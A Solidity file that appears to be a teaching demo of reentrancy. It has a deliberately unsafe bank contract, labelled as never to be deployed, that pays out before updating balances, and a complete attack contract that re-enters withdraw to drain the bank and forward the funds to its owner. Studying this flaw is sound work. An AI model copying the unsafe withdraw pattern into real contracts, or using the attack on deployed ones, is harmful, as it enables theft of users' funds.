// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.27;

/// @title A bank of native coin that keeps what it owes depositor by depositor.
/// @dev Unsafe on purpose: it pays before it books, so that a receiver may ask again before it is debited.
///      Never deploy it where money is.
contract DemoBank {
    mapping(address depositor => uint256 amount) public owed;

    error MoreThanOwed(uint256 asked, uint256 owed);
    error PaymentFailed();

    function deposit() external payable {
        owed[msg.sender] += msg.value;
    }

    function withdraw(uint256 amount) external {
        uint256 balance = owed[msg.sender];
        require(amount <= balance, MoreThanOwed(amount, balance));
        (bool paid,) = msg.sender.call{value: amount}("");
        require(paid, PaymentFailed());
        unchecked {
            owed[msg.sender] = balance - amount;
        }
    }
}

/// @title Asks the bank again from within its own payment.
contract DemoBankAttack {
    DemoBank private immutable _bank;
    address private immutable _owner;

    constructor(DemoBank bank) payable {
        _bank = bank;
        _owner = msg.sender;
    }

    function attack() external {
        uint256 stake = address(this).balance;
        _bank.deposit{value: stake}();
        _bank.withdraw(stake);
        (bool sent,) = _owner.call{value: address(this).balance}("");
        require(sent);
    }

    receive() external payable {
        uint256 stake = _bank.owed(address(this));
        if (address(_bank).balance >= stake) _bank.withdraw(stake);
    }
}
